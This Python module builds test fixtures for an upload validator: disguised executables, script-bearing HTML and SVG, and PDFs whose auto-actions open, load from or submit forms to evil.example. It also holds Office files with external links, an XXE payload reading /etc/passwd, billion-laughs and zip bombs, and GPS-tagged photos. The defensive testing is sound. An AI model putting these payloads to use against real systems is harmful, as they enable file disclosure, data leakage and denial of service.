"""Malicious and broken files, and valid ones to compare."""

import random
import struct
import zipfile
import zlib
from io import BytesIO

from openpyxl import Workbook
from PIL import Image
from pypdf import PdfWriter
from pypdf.generic import ArrayObject, DictionaryObject, NameObject, TextStringObject

from media.uploads.office_lists import MAIN

EXE = b"MZ\x90\x00" + bytes(200) + b"This program cannot be run in DOS mode"
ELF = b"\x7fELF\x02\x01\x01" + bytes(200)
HTML = b"<!DOCTYPE html><html><script>alert(1)</script></html>"
SVG = b'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'
POSTSCRIPT = b"%!PS-Adobe-3.0 EPSF-3.0\n%%BoundingBox: 0 0 900 900\n"
SECRET = b"taken-at-home"


def picture(kind="PNG", size=(40, 30), **more) -> bytes:
    buffer = BytesIO()
    Image.new("RGB", size, "#523f9e").save(buffer, kind, **more)
    return buffer.getvalue()


def animated(frames: int, size, kind="GIF") -> bytes:
    buffer = BytesIO()
    first, *rest = (Image.new("L", size, number * 5 % 255) for number in range(frames))
    first.save(buffer, kind, save_all=True, append_images=rest)
    return buffer.getvalue()


def tiff_that_claims(width: int, height: int) -> bytes:
    """A TIFF with its size replaced."""
    content = picture("TIFF", (1234, 4321))
    return content.replace(struct.pack("<I", 1234), struct.pack("<I", width), 1).replace(
        struct.pack("<I", 4321), struct.pack("<I", height), 1
    )


def heic_that_claims(width: int, height: int) -> bytes:
    """A HEIC with the size in its `ispe` box replaced."""
    content = picture("HEIF", (640, 480))
    place = content.index(b"ispe") + 8
    return content[:place] + struct.pack(">II", width, height) + content[place + 8 :]


def png_that_claims(width: int, height: int) -> bytes:
    """A small file that decodes to a very large picture."""
    head = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + b"".join(
        _chunk(*one) for one in ((b"IHDR", head), (b"IDAT", zlib.compress(bytes(99))), (b"IEND", b""))
    )


def _chunk(name, content) -> bytes:
    return struct.pack(">I", len(content)) + name + content + struct.pack(">I", zlib.crc32(name + content))


def located(kind="JPEG") -> bytes:
    """A photo with its location, phone model, and other metadata."""
    exif = Image.Exif()
    exif[0x010F] = SECRET.decode()
    exif.get_ifd(0x8825).update({1: "N", 2: (34.0, 3.0, 8.0), 3: "W", 4: (118.0, 14.0, 37.0)})
    more = {"exif": exif}
    if kind == "JPEG":
        more |= {"comment": SECRET, "xmp": b"<x:xmpmeta xmlns:x='adobe:ns:meta/'>" + SECRET + b"</x:xmpmeta>"}
    return picture(kind, (1300, 700), **more)


def written(writer: PdfWriter) -> bytes:
    buffer = BytesIO()
    writer.write(buffer)
    return buffer.getvalue()


def pdf(*, password="", owner=None, script=False, launch=False, attached=False) -> bytes:
    """With only an `owner` password, anyone can open it, but not print it."""
    writer = PdfWriter()
    writer.add_blank_page(200, 200)
    if script:
        writer.root_object[NameObject("/OpenAction")] = action("JavaScript", "JS", "app.alert(1)")
    if launch:
        mark = DictionaryObject(
            {NameObject("/Type"): NameObject("/Annot"), NameObject("/A"): action("Launch", "F", "x")}
        )
        writer.pages[0][NameObject("/Annots")] = ArrayObject([writer._add_object(mark)])
    if attached:
        writer.add_attachment("a.exe", EXE)
    if password or owner:
        writer.encrypt(password, owner, algorithm="AES-256")
    return written(writer)


def pdf_of(*objects: str, page: str = "") -> bytes:
    """A hand-written PDF: one page, and `objects` from number 4 on. The root has `/OpenAction 4 0 R`, the page
    `page`."""
    first = (
        "<</Type /Catalog /Pages 2 0 R /OpenAction 4 0 R>>",
        "<</Type /Pages /Kids [3 0 R] /Count 1>>",
        f"<</Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] {page}>>",
    )
    content, places = b"%PDF-1.7\n", []
    for number, one in enumerate((*first, *objects), 1):
        places.append(len(content))
        content += f"{number} 0 obj\n{one}\nendobj\n".encode()
    table = "0000000000 65535 f \n" + "".join(f"{place:010} 00000 n \n" for place in places)
    size = len(places) + 1
    return content + (
        f"xref\n0 {size}\n{table}trailer\n<</Size {size} /Root 1 0 R>>\nstartxref\n{len(content)}\n%%EOF\n".encode()
    )


GO_TO = "<</S /GoTo /D [3 0 R /Fit]>>"
LINK = "<</S /URI /URI (https://www.example.org/)>>"
STARTING = {  # actions that leave the document without a click
    "a web page to open": pdf_of(LINK),
    "another file to open": pdf_of("<</S /GoToR /F (//evil.example/a.pdf) /D [0 /Fit]>>"),
    "a form that is sent": pdf_of("<</S /SubmitForm /F (https://evil.example/)>>"),
    "an article of another file": pdf_of("<</S /Thread /F (//evil.example/a.pdf) /D 0>>"),
    "an action whose kind nobody knows": pdf_of("<</S /Surprise>>"),
    "a web page after a place in it": pdf_of(f"<</S /GoTo /D [3 0 R /Fit] /Next {LINK}>>"),
    "a web page in a list after two places": pdf_of(
        "<</S /GoTo /D [3 0 R /Fit] /Next 5 0 R>>", f"<</S /Named /N /NextPage /Next [{GO_TO} 6 0 R]>>", LINK
    ),
    "a web page in a chain that leads back": pdf_of("<</S /GoTo /Next [5 0 R 4 0 R]>>", LINK),
    "a web page when its page is shown": pdf_of(GO_TO, f"<</O {LINK}>>", page="/AA 5 0 R"),
    "a form that is sent when the pointer comes near": pdf_of(
        GO_TO, page="/Annots [<</Subtype /Widget /AA <</E <</S /SubmitForm /F (https://evil.example/)>> >> >>]"
    ),
}
LOADING = {  # streams whose content is in another file
    "a page in another file": pdf_of(
        GO_TO, "<</Length 0 /F (//evil.example/a)>>\nstream\n\nendstream", page="/Contents 5 0 R"
    ),
    "a drawing in another file": pdf_of(
        GO_TO,
        "<</Subtype /Form /Length 0 /Ref <</F (//evil.example/a.pdf) /Page 0>> >>\nstream\n\nendstream",
        page="/Resources <</XObject <</A 5 0 R>> >>",
    ),
}


def action(kind: str, key: str, value: str) -> DictionaryObject:
    return DictionaryObject({NameObject("/S"): NameObject(f"/{kind}"), NameObject(f"/{key}"): TextStringObject(value)})


def workbook() -> bytes:
    book, buffer = Workbook(), BytesIO()
    book.active.append(["/old", "/new"])
    book.active["A2"].hyperlink = "https://www.example.org/"
    book.save(buffer)
    return buffer.getvalue()


RELATED = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
PARTS = {"docx": "word/document.xml", "xlsx": "xl/workbook.xml", "pptx": "ppt/presentation.xml"}


def package(kind="docx", main="<d/>", content_type="", **parts) -> bytes:
    """An Office document with few parts; `parts` by name, with `__` for `/` and `_dot_` for a point."""
    types = (
        '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
        f'<Override PartName="/{PARTS[kind]}" ContentType="{content_type or MAIN[kind]}"/></Types>'
    )
    named = {name.replace("__", "/").replace("_dot_", "."): content for name, content in parts.items()}
    return archive(**{"[Content_Types].xml": types, PARTS[kind]: main, **named})


def relationship(kind: str, mode="External", target="https://evil.example/a") -> str:
    return (
        '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        f'<Relationship Id="r1" Type="{RELATED}/{kind}" Target="{target}" TargetMode="{mode}"/></Relationships>'
    )


def archive(**files) -> bytes:
    buffer = BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as made:
        for name, content in files.items():
            made.writestr(name, content)
    return buffer.getvalue()


LAUGHS = (
    '<?xml version="1.0"?><!DOCTYPE l [<!ENTITY a "ha">'
    + "".join(f'<!ENTITY {new} "{f"&{old};" * 10}">' for old, new in zip("abcdefgh", "bcdefghi", strict=True))
    + "]><l>&i;</l>"
)
FILE_READ = '<?xml version="1.0"?><!DOCTYPE d [<!ENTITY x SYSTEM "file:///etc/passwd">]><d>&x;</d>'
LATE = FILE_READ.replace("<!DOCTYPE", f"<!--{random.Random(1).randbytes(35_000).hex()}--><!DOCTYPE")
BOMB = package(word__media__a_dot_bin=bytes(20 * 2**20))
MANY_PARTS = package(**{f"word__p{number}_dot_xml": "<a/>" for number in range(5_001)})
TYPES_BOMB = archive(**{"[Content_Types].xml": LAUGHS, "word/document.xml": "<d/>"})
OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(600)
